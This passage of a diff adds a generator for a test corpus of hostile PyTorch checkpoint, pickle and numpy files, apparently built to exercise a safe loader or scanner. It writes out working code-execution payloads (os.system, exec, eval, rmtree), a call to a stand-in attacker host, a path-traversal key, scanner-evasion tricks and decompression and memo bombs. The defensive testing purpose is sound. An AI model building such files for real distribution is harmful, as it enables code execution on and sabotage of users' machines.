+           "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
+           call(call(call(glob("operator", "attrgetter"), u("system")),
+                     call(glob("importlib", "import_module"), u("os"))), u(TOUCH)),
+           ["operator.attrgetter", "importlib.import_module"])
+    zipped("runpy_run_code.pt", "runpy._run_code(source, {}) executes a source string",
+           call(glob("runpy", "_run_code"), u(PY_MARKER), EMPTY_DICT), ["runpy._run_code"])
+    zipped("builtins_compile_exec.pt", "builtins.exec(builtins.compile(source, '<ckpt>', 'exec'))",
+           call(glob("builtins", "exec"), call(glob("builtins", "compile"), u(PY_MARKER), u("<ckpt>"), u("exec"))),
+           ["builtins.exec", "builtins.compile"])
+    zipped("builtins_open.pt", "builtins.open(marker, 'w') creates the marker directly",
+           call(glob("builtins", "open"), u(MARKER), u("w")), ["builtins.open"])
+    zipped("webbrowser_open.pt",
+           "methodcaller('open', marker)(webbrowser.GenericBrowser('touch')), which runs `touch marker`, "
+           "then webbrowser.open(url)",
+           tup(call(call(glob("operator", "methodcaller"), u("open"), u(MARKER)),
+                    call(glob("webbrowser", "GenericBrowser"), u("touch"))),
+               call(glob("webbrowser", "open"), u("https://attacker.invalid/x"))),
+           ["operator.methodcaller", "webbrowser.GenericBrowser", "webbrowser.open"])
+    zipped("shutil_rmtree.pt", "shutil.rmtree(dir, True), then shutil.copyfile('/dev/null', marker)",
+           tup(call(glob("shutil", "rmtree"), u("tensorplay_victim_dir"), NEWTRUE),
+               call(glob("shutil", "copyfile"), u("/dev/null"), u(MARKER))),
+           ["shutil.rmtree", "shutil.copyfile"])
+    zipped("socket_create_connection.pt",
+           "builtins.open(marker), then socket.create_connection(('127.0.0.1', 9), 1) (an exfiltration channel)",
+           tup(call(glob("builtins", "open"), u(MARKER), u("w")),
+               call(glob("socket", "create_connection"), tup(u("127.0.0.1"), i(9)), i(1))),
+           ["builtins.open", "socket.create_connection"])
+
+
+def scanner_evasion(c: Corpus) -> None:
+    fam = "scanner_evasion"
+    add = c.add
+
+    add("broken_opcode_after_payload.pt", fam,
+        "the payload runs, then an invalid opcode 0xff breaks the stream (scanners that give up on "
+        "a malformed pickle see nothing)",
+        UNSAFE, tensor_checkpoint(proto(2) + os_system() + b"\xff" + STOP), ["os.system"])
+    add("truncated_after_payload.pt", fam,
+        "the payload runs, then a BINUNICODE declaring 4096 bytes is cut short and there is no STOP",
+        UNSAFE, tensor_checkpoint(proto(2) + call(glob("subprocess", "call"), lst(u("touch"), u(MARKER)))
+                                  + BINUNICODE + struct.pack("<I", 4096) + b"abc"), ["subprocess.call"])
+    add("two_pickles_second_malicious.pt", fam,
+        "data.pkl holds a benign state-dict pickle and, after its STOP, a second complete pickle "
+        "with the payload",
+        MALFORMED, tensor_checkpoint(BENIGN_PKL + MALICIOUS_PKL), ["os.system"])
+    add("data_after_stop.pt", fam,
+        "data.pkl's benign pickle is followed by stray opcodes (a payload without PROTO or STOP)",
+        MALFORMED, tensor_checkpoint(BENIGN_PKL + os_system() + b"\x00" * 16), ["os.system"])
+    add("raw_two_pickles.pkl", fam,
+        "a raw (non-zip) stream: a benign dict pickle, then a malicious pickle; not a legacy "
+        "checkpoint (no magic number)",
+        MALFORMED, pkl(dct((u("epoch"), i(3)))) + MALICIOUS_PKL, ["os.system"])
+    add("prefix_polyglot.pt", fam,
+        "a benign pickle glued before a malicious torch zip: pickle scanners see a dict, zip tools "
+        "(which find the end record) see the malicious data.pkl",
+        MALFORMED, pkl(dct((u("epoch"), i(3)))) + tensor_checkpoint(MALICIOUS_PKL), ["os.system"])
+
+    # Local header vs central directory.
+    root = "archive"
+    add("lfh_cd_name_mismatch.pt", fam,
+        "the central directory calls the payload entry archive/data.pkl, its local header calls it "
+        "archive/notes.txt (stream scanners skip a .txt)",
+        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                    lfh_name=f"{root}/notes.txt")),
+        ["os.system"])
+    add("lfh_sizes_zero.pt", fam,
+        "data.pkl's local header declares 0 bytes without the data-descriptor flag (stream readers "
+        "see an empty entry), the central directory the real size",
+        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                    lfh_sizes=(0, 0), lfh_crc=0)),
+        ["os.system"])
+    add("lfh_cd_method_mismatch.pt", fam,
+        "data.pkl is stored; its local header says DEFLATE (stream scanners fail to inflate it), the "
+        "central directory says stored",
+        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                    lfh_method=8)),
+        ["os.system"])
+    add("cd_stored_sizes_differ.pt", fam,
+        "data.pkl is stored, yet the central directory gives it an uncompressed size of 0 (readers "
+        "that trust that size see an empty entry) and a compressed size covering the payload",
+        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                    cd_sizes=(len(MALICIOUS_PKL), 0))),
+        ["os.system"])
+    add("overlapping_entries.pt", fam,
+        "two central directory entries (data.pkl and extra.pkl) share one local header and payload",
+        MALFORMED, _overlapping(), ["os.system"])
+    add("duplicate_data_pkl.pt", fam,
+        "two entries named archive/data.pkl: a benign one first, the malicious one second (torch's "
+        "lookup may pick either)",
+        MALFORMED, checkpoint(BENIGN_PKL, {"0": FLOATS4},
+                              extra=[Entry(f"{root}/data.pkl", MALICIOUS_PKL)]), ["os.system"])
+    add("duplicate_data_pkl_case.pt", fam,
+        "archive/data.pkl (benign) and archive/DATA.PKL (malicious): torch's record lookup is "
+        "case-insensitive, so which one it reads is unspecified",
+        MALFORMED, checkpoint(BENIGN_PKL, {"0": FLOATS4},
+                              extra=[Entry(f"{root}/DATA.PKL", MALICIOUS_PKL)]), ["os.system"])
+    add("encrypted_flag.pt", fam,
+        "data.pkl (plain text) flagged as encrypted (bit 0): zipfile-based scanners refuse to read it",
+        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                    flags=0x0001)), ["os.system"])
+    add("odd_flag_bits.pt", fam,
+        "data.pkl with general-purpose flag bits 1, 2, 5 (patched data) and 13 set: zipfile raises "
+        "on bit 5, torch's reader ignores them",
+        UNSAFE, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                 flags=0x2026)), ["os.system"])
+    add("wrong_crc.pt", fam,
+        "data.pkl with a wrong CRC-32 in both headers: zipfile raises BadZipFile, torch never checks",
+        UNSAFE, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
+                                                                 crc=0xDEADBEEF)), ["os.system"])
+
+    # Misleading extensions.
+    add("model.safetensors", fam, "a malicious torch zip named .safetensors",
+        UNSAFE, tensor_checkpoint(MALICIOUS_PKL), ["os.system"])
+    add("config.json", fam, "a malicious torch zip named .json",
+        UNSAFE, tensor_checkpoint(pkl(call(glob("builtins", "exec"), u(PY_MARKER)))), ["builtins.exec"])
+    readme = b"cposix\nsystem\n(" + text_string(TOUCH) + b"tR."
+    check_pickle(readme)
+    add("readme.txt", fam,
+        "a raw protocol 0 pickle (all printable) named .txt: neither a zip nor a legacy checkpoint "
+        "(no magic number)", MALFORMED, readme, ["posix.system"])
+    add("weights.npy", fam,
+        "a raw protocol 2 pickle (not an .npy) named .npy: neither a zip nor a legacy checkpoint",
+        MALFORMED, MALICIOUS_PKL, ["os.system"])
+
+    # Nested archives.
+    add("zip_in_zip.zip", fam, "a plain zip whose only member model.pt is a malicious torch zip",
+        MALFORMED, zip_archive([Entry("model.pt", tensor_checkpoint(MALICIOUS_PKL), align=False)]),
+        ["os.system"])
+    add("zip_in_record.pt", fam,
+        "a torch-style archive with version and byteorder but no data.pkl; its record "
+        "archive/model.pt is a malicious torch zip",
+        MALFORMED, checkpoint(b"", pkl_entry=Entry("archive/model.pt", tensor_checkpoint(MALICIOUS_PKL))),
+        ["os.system"])
+    add("torch_zip_in_tar.tar", fam, "a tar archive holding a malicious torch zip (archive.pt)",
+        UNSUPPORTED, tar_archive([("archive.pt", tensor_checkpoint(MALICIOUS_PKL))]), ["os.system"])
+
+    # Protocol 4 frames.
+    body = os_system() + STOP
+    frame = proto(4) + FRAME + struct.pack("<Q", len(body)) + body
+    check_pickle(frame)
+    add("frame_hides_payload.pt", fam,
+        "protocol 4: the whole payload sits inside one FRAME (a disassembler that skips frames "
+        "sees only PROTO and FRAME)",
+        UNSAFE, tensor_checkpoint(frame), ["os.system"])
+    add("frame_length_past_end.pt", fam,
+        "protocol 4: a FRAME declaring 2**40 bytes, then the payload; the frame runs past the end",
+        MALFORMED, tensor_checkpoint(proto(4) + FRAME + struct.pack("<Q", 1 << 40) + body), ["os.system"])
+
+    # TorchScript-looking archive.
+    add("torchscript_constants.pt", fam,
+        "a TorchScript-shaped archive: benign data.pkl, code/, and constants.pkl carrying the payload",
+        UNSUPPORTED, checkpoint(BENIGN_PKL, {"0": FLOATS4}, extra=[
+            Entry("archive/constants.pkl", MALICIOUS_PKL),
+            Entry("archive/code/__torch__.py", b"class Model(Module):\n  pass\n"),
+        ]), ["os.system"])
+
+
+def _overlapping() -> bytes:
+    """A second central directory record pointing at data.pkl's local header (offset 0)."""
+    twin = Entry("archive/extra.pkl", MALICIOUS_PKL, cd_offset=0)
+    return checkpoint(MALICIOUS_PKL, {"0": FLOATS4}, extra=[twin])
+
+
+def numpy_family(c: Corpus) -> None:
+    fam = "numpy"
+    arr = npy("|O", (1,), object_array_pickle(os_system()))
+    c.add("object_array.npy", fam,
+          "a real .npy (dtype |O) whose object-array pickle holds os.system(...) as its element",
+          MALFORMED, arr, ["os.system"])
+    c.add("object_array.npz", fam, "an .npz (plain zip) whose arr_0.npy is a malicious object array",
+          MALFORMED, zip_archive([Entry("arr_0.npy", arr, align=False),
+                                  Entry("arr_1.npy", npy("<f4", (4,), FLOATS4), align=False)]),
+          ["os.system"])
+    body = pkl(dct((u("weights"), object_array_pickle(os_system())[2:-1])), 3)
+    c.add("numpy_object_array_in_checkpoint.pt", fam,
+          "a torch zip whose data.pkl holds a numpy object array (_reconstruct + BUILD) with a payload element",
+          UNSAFE, tensor_checkpoint(body), ["os.system"], wellformed=body)
+
+
+def legacy_family(c: Corpus) -> None:
+    fam = "legacy"
+    main = pkl(state_dict(("weight", legacy_tensor())))
+    keys = pkl(lst(u(LEGACY_KEY)))
+    for part in (LEGACY_MAGIC, LEGACY_PROTOCOL, LEGACY_SYS_INFO, main, keys):
+        check_pickle(part)
+    add = c.add
+    add("legacy_main_payload.pt", fam,
+        "legacy format: magic number, protocol 1001 and sys_info pickles, then a malicious main pickle",
+        UNSAFE, LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + MALICIOUS_PKL + pkl(EMPTY_LIST),
+        ["os.system"])
+    add("legacy_sys_info_payload.pt", fam,
+        "legacy format with the payload in the sys_info pickle (which torch reads and ignores)",
+        UNSAFE, LEGACY_MAGIC + LEGACY_PROTOCOL + pkl(call(glob("subprocess", "getoutput"), u(TOUCH)))
+        + main + keys + legacy_storages(), ["subprocess.getoutput"])
+    add("legacy_protocol_payload.pt", fam,
+        "legacy format with the payload where the protocol number pickle belongs",
+        UNSAFE, LEGACY_MAGIC + pkl(call(glob("builtins", "eval"), u(f"__import__('os').system({TOUCH!r})")))
+        + LEGACY_SYS_INFO + main + keys + legacy_storages(), ["builtins.eval"])
+    add("legacy_key_list_payload.pt", fam,
+        "legacy format: valid main pickle with a tensor, then a malicious storage-key-list pickle",
+        UNSAFE, LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + main + MALICIOUS_PKL + legacy_storages(),
+        ["os.system"])
+    add("legacy_bad_magic_then_payload.pt", fam,
+        "a legacy-looking stream whose magic number is wrong (off by one), followed by a malicious main pickle",
+        MALFORMED, pkl(i(0x1950A86A20F9469CFC6D)) + LEGACY_PROTOCOL + LEGACY_SYS_INFO + MALICIOUS_PKL,
+        ["os.system"])
+
+
+def resource_family(c: Corpus) -> None:
+    fam = "resource"
+    add = c.add
+
+    # Memo bombs: one list referenced over and over from nested tuples.
+    levels, width = 10, 1000
+    body = proto(2) + EMPTY_LIST + put(0) + POP
+    for level in range(1, levels + 1):
+        body += MARK + get(level - 1) * width + TUPLE + put(level) + (POP if level < levels else b"")
+    add("memo_bomb_nested_tuples.pt", fam,
+        f"{levels} levels of tuples each holding one memo entry {width} times (logical size "
+        f"{width}**{levels}), then the stream ends without STOP",
+        MALFORMED, tensor_checkpoint(body))
+
+    levels, width = 4, 1_000_000
+    segs = [(tensor_prefix_for_size(), 1), (EMPTY_LIST + put(0) + POP, 1)]
+    for level in range(1, levels + 1):
+        segs += [(MARK, 1), (get(level - 1), width), (TUPLE + put(level) + (POP if level < levels else b""), 1)]
+    segs += [(tensor_suffix_for_size(), 1)]
+    raw = b"".join(unit * n for unit, n in segs)
+    check_pickle(raw)
+    add("memo_bomb_millions.pt", fam,
+        f"a DEFLATE-compressed data.pkl fetching memo entries {levels * width:,} times "
+        f"({levels} nested tuples of {width:,}); the bomb is passed as a tensor's size "
+        f"({width:,} dimensions)",
+        LIMIT, tensor_checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
+                                                          usize=len(raw), plain=raw)))
+
+    levels, width = 10, 1000
+    body = proto(2) + EMPTY_DICT + u("x") + put(0) + POP
+    for level in range(1, levels + 1):
+        body += MARK + get(level - 1) * width + TUPLE + put(level) + (POP if level < levels else b"")
+    body += NONE + SETITEM + STOP
+    add("memo_bomb_dict_key.pt", fam,
+        f"a memo bomb (one str referenced {width}**{levels} times through {levels} nested tuples) used "
+        "as a dict key: hashing it walks every logical item",
+        LIMIT, checkpoint(body), wellformed=body)
+
+    n = 1_000_000
+    segs = [(proto(2) + EMPTY_DICT, 1), (MARK, n), (TUPLE, n), (NONE + SETITEM + STOP, 1)]
+    raw = b"".join(unit * k for unit, k in segs)
+    add("deep_tuple_dict_key.pt", fam,
+        f"a {n:,}-deep nested tuple used as a dict key: hashing it recurses {n:,} levels in C",
+        LIMIT, checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
+                                               usize=len(raw), plain=raw)))
+    segs = [(proto(2) + EMPTY_DICT, 1), (EMPTY_LIST, n), (APPEND, n - 1), (NONE + SETITEM + STOP, 1)]
+    raw = b"".join(unit * k for unit, k in segs)
+    add("deep_nesting_lists.pt", fam,
+        f"{n:,} nested lists (EMPTY_LIST then APPEND), used as a dict key (unhashable)",
+        MALFORMED, checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
+                                                   usize=len(raw), plain=raw)))
+    segs = [(proto(2), 1), (MARK, n), (TUPLE, n)]
+    raw = b"".join(unit * k for unit, k in segs)
+    add("deep_nesting_marks.pt", fam,
+        f"{n:,} nested MARKs closed by {n:,} TUPLEs (a {n:,}-deep tuple), then no STOP",
+        MALFORMED, checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
+                                                   usize=len(raw), plain=raw)))
+
+    add("long4_gigantic.pt", fam, "LONG4 declaring 2**31-1 bytes in a 30-byte pickle",
+        MALFORMED, checkpoint(proto(2) + LONG4 + struct.pack("<i", 2**31 - 1) + b"\x01" * 16))
+    add("binunicode8_gigantic.pt", fam, "BINUNICODE8 declaring 2**63-1 bytes",
+        MALFORMED, checkpoint(proto(4) + BINUNICODE8 + struct.pack("<Q", 2**63 - 1) + b"abc" + STOP))
+    add("binbytes8_gigantic.pt", fam, "BINBYTES8 declaring 2**40 bytes",
+        MALFORMED, checkpoint(proto(4) + BINBYTES8 + struct.pack("<Q", 2**40) + b"abc" + STOP))
+    add("bytearray8_gigantic.pt", fam, "protocol 5 BYTEARRAY8 declaring 2**64-1 bytes",
+        MALFORMED, checkpoint(proto(5) + BYTEARRAY8 + struct.pack("<Q", 2**64 - 1) + b"abc" + STOP))
+    body = pkl(call(glob("__builtin__", "bytearray"), i(10**12)))
+    add("bytearray_1e12.pt", fam, "bytearray(10**12) through the allowlisted builtins.bytearray",
+        LIMIT, checkpoint(body), wellformed=body)
+
+    # DEFLATE bombs in storage records.
+    bomb_units = 64 << 20
+    segs = [(b"\x00", bomb_units)]
+    add("zipbomb_record_past_declared.pt", fam,
+        "data/0 declares 16 bytes (a 4-float storage) but its DEFLATE stream inflates to 64 MiB",
+        MALFORMED, checkpoint(BENIGN_PKL, {"0": Entry("archive/data/0", deflate(segs), method=8, usize=16,
+                                                      crc=zlib.crc32(bytes(16)))}))
+    tiny = deflate([(b"\x00", 1024)])
+    absurd = 1 << 62
+    add("zipbomb_declared_absurd.pt", fam,
+        "data/0 declares 2**62 bytes (ZIP64) for a storage of 2**60 floats; the stream holds 1 KiB",
+        LIMIT, checkpoint(pkl(tensor(storage_pid(numel=absurd // 4))),
+                          {"0": Entry("archive/data/0", tiny, method=8, usize=absurd, crc=0)}))
+    big = 60 << 30
+    add("zipbomb_declared_60gib.pt", fam,
+        "data/0 declares 60 GiB (ZIP64, matching its storage; under max_inflated_bytes) but its DEFLATE "
+        "stream is a few bytes that inflate to 1 KiB: no stream that short can produce 60 GiB",
+        MALFORMED, checkpoint(pkl(tensor(storage_pid(numel=big // 4))),
+                              {"0": Entry("archive/data/0", tiny, method=8, usize=big, crc=0)}))
+    small = deflate([(BENIGN_PKL, 1)])
+    add("zipbomb_pkl_declared_1gib.pt", fam,
+        "data.pkl is DEFLATE-compressed and declares just under 1 GiB; its stream inflates to 400 bytes",
+        MALFORMED, tensor_checkpoint(BENIGN_PKL, pkl_entry=Entry("archive/data.pkl", small, method=8,
+                                                                 usize=(1 << 30) - 64, crc=0)))
+
+    segs = [(BENIGN_PKL, 1), (b"\x00", 8 << 20)]
+    add("zipbomb_pkl_past_declared.pt", fam,
+        "data.pkl is DEFLATE-compressed and declares its real size, but the stream goes on to inflate "
+        "8 MiB more",
+        MALFORMED, tensor_checkpoint(BENIGN_PKL, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
+                                                                 usize=len(BENIGN_PKL), plain=BENIGN_PKL)))
+
+    # Zip structure.
+    add("eocd_100m_entries.pt", fam,
+        "a checkpoint whose ZIP64 end record claims 100,000,000 entries (the directory holds 4)",
+        LIMIT, tensor_checkpoint(BENIGN_PKL, eocd_entries=100_000_000))
+    add("four_bytes.pt", fam, "a 4-byte file: just a local header signature", MALFORMED, b"PK\x03\x04")
+    full = tensor_checkpoint(MALICIOUS_PKL)
+    cut = full.index(b"archive/byteorder") - 30
+    add("truncated_zip.pt", fam,
+        "a malicious checkpoint cut after its data.pkl entry: no central directory",
+        MALFORMED, full[:cut], ["os.system"])
+
+
+def tensor_prefix_for_size() -> bytes:
+    """Everything of a 4-float tensor pickle up to (not including) its size tuple."""
+    return proto(2) + glob("torch._utils", "_rebuild_tensor_v2") + MARK + storage_pid() + i(0)
+
+
+def tensor_suffix_for_size() -> bytes:
+    return tup(i(1)) + NEWFALSE + ordered_dict() + TUPLE + REDUCE + STOP
+
+
+def tensor_family(c: Corpus) -> None:
+    fam = "tensor_metadata"
+
+    def lie(file, description, body, storages=None):
+        data = pkl(body)
+        c.add(file, fam, description, MALFORMED,
+              checkpoint(data, {"0": FLOATS4} if storages is None else storages), wellformed=data)
+
+    lie("size_past_storage.pt", "size (5,) over a storage of 4 floats", tensor(size=(5,)))
+    lie("stride_past_storage.pt", "size (2, 2), stride (3, 1) reaches element 4 of a 4-float storage",
+        tensor(size=(2, 2), stride=(3, 1)))
+    lie("offset_past_end.pt", "storage offset 10 in a 4-float storage", tensor(offset=10, size=(1,)))
+    lie("negative_size.pt", "size (-1,)", tensor(size=(-1,)))
+    lie("negative_stride.pt", "stride (-1,) for size (4,)", tensor(size=(4,), stride=(-1,)))
+    lie("negative_offset.pt", "storage offset -1", tensor(offset=-1, size=(1,)))
+    lie("size_product_overflow.pt",
+        "size (2**32, 2**32, 16) with zero strides: the element count overflows 64 bits",
+        tensor(size=(2**32, 2**32, 16), stride=(0, 0, 0)))
+    lie("stride_overflow.pt", "stride 2**62 for size (4,): the extent overflows 64 bits",
+        tensor(size=(4,), stride=(2**62,)))
+    lie("size_stride_rank_mismatch.pt", "size (2, 2) with stride (1,)", tensor(size=(2, 2), stride=(1,)))
+    lie("storage_larger_than_record.pt", "persistent id declares 1000 floats, data/0 holds 16 bytes",
+        tensor(storage_pid(numel=1000)))
+    lie("storage_smaller_than_record.pt", "persistent id declares 2 floats, data/0 holds 16 bytes",
+        tensor(storage_pid(numel=2), size=(2,)))
+    lie("persid_four_items.pt", "a storage persistent id with 4 items (no numel)",
+        tensor(MARK + u("storage") + glob("torch", "FloatStorage") + u("0") + u("cpu") + TUPLE + BINPERSID))
+    lie("persid_type_is_str.pt", "a storage persistent id whose storage type is the string 'FloatStorage'",
+        tensor(storage_pid(stype=u("FloatStorage"))))
+    lie("record_missing.pt", "the persistent id names key '0' but there is no data/0 record",
+        tensor(), storages={})
+    lie("key_path_traversal.pt", "storage key '../../../../etc/passwd': no such record",
+        tensor(storage_pid(key="../../../../etc/passwd")))
+
+
+def build() -> Corpus:
+    c = Corpus()
+    code_execution(c)
+    scanner_evasion(c)
+    numpy_family(c)
+    legacy_family(c)
+    resource_family(c)
+    tensor_family(c)
+    return c
+
+
+def write(out: pathlib.Path) -> Corpus:
+    corpus = build()
+    files = out / "files"
+    if files.exists():
+        shutil.rmtree(files)
+    files.mkdir(parents=True)
+    for name, data in corpus.files.items():
+        (files / name).write_bytes(data)
+    (out / "manifest.json").write_text(json.dumps(corpus.manifest, indent=1) + "\n")
+    return corpus
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--out", type=pathlib.Path, default=HERE, help="folder for files/ and manifest.json")
+    args = parser.parse_args()
+    corpus = write(args.out)
+    print(f"wrote {len(corpus.files)} files to {args.out / 'files'}")
+
+
+if __name__ == "__main__":
+    main()
